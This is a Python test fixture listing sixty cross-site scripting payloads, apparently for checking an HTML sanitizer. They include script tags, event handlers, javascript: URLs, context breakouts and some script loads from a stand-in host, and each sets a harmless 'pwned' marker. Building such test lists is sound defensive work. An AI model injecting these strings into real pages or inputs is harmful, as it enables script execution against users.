"""Sixty texts that would run, fetch or break out where a page took them for markup. Common practice, from memory, no source.

Whatever runs sets `pwned`; whatever fetches asks for an address with `pwned` in it.
"""

TEXTS = (
    # elements that run
    "<script>pwned=1</script>", "<ScRiPt>pwned=1</sCrIpT>", "<script src=/pwned.js></script>",
    "<script src=//192.0.2.1/pwned.js></script>", "<script >pwned=1</script >", "<script/x>pwned=1</script>",
    "<script type=module>pwned=1</script>", "<script>pwned=1", "</script><script>pwned=1</script>",
    "<<script>pwned=1//<</script>", "<scr<script>ipt>pwned=1</script>", "<svg><script>pwned=1</script></svg>",
    "<svg><script href=/pwned.js />", "<math><script>pwned=1</script></math>",
    "<noscript><p title='</noscript><script>pwned=1</script>'>",
    # handlers
    "<img src=x onerror=pwned=1>", "<img src=/pwned.png>", "<img/src=/pwned/onerror=pwned=1>", "<svg onload=pwned=1>",
    "<svg/onload=pwned=1>", "<body onload=pwned=1>", "<input onfocus=pwned=1 autofocus>",
    "<details open ontoggle=pwned=1>x", "<video src=/pwned.mp4 onerror=pwned=1>", "<audio src=/pwned onerror=pwned=1>",
    "<marquee onstart=pwned=1>x</marquee>", "<select onfocus=pwned=1 autofocus>", "<textarea onfocus=pwned=1 autofocus>",
    "<object data=/pwned>", "<embed src=/pwned.svg>", "<iframe src=/pwned></iframe>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'>", "<iframe src=javascript:parent.pwned=1>",
    "<link rel=stylesheet href=/pwned.css>", "<style>@import '/pwned.css'</style>",
    "<style>*{background:url(/pwned.png)}</style>", "<base href=//192.0.2.1/pwned/>",
    "<meta http-equiv=refresh content=0;url=/pwned>", "<a href=javascript:pwned=1>x</a>",
    "<form action=/pwned><button>x</button></form>", "<button formaction=javascript:pwned=1>x",
    "<template><script>pwned=1</script></template>", "<x onclick=pwned=1 tabindex=1 autofocus onfocus=pwned=1>x",
    # out of attributes, texts, comments and templates
    "\" onmouseover=\"pwned=1", "' onfocus='pwned=1' autofocus='", "\"><script>pwned=1</script>",
    "'><img src=x onerror=pwned=1>", "\"><svg onload=pwned=1>", "--><script>pwned=1</script>",
    "]]><script>pwned=1</script>", "</title><script>pwned=1</script>", "</textarea><script>pwned=1</script>",
    "</select><img src=x onerror=pwned=1>", "</pre><img src=x onerror=pwned=1>", "';pwned=1;//", "\\\";pwned=1;//",
    "javascript:pwned=1", "{{pwned=1}}", "${pwned=1}", "&lt;img src=x onerror=pwned=1&gt;",
)
assert len(set(TEXTS)) == 60
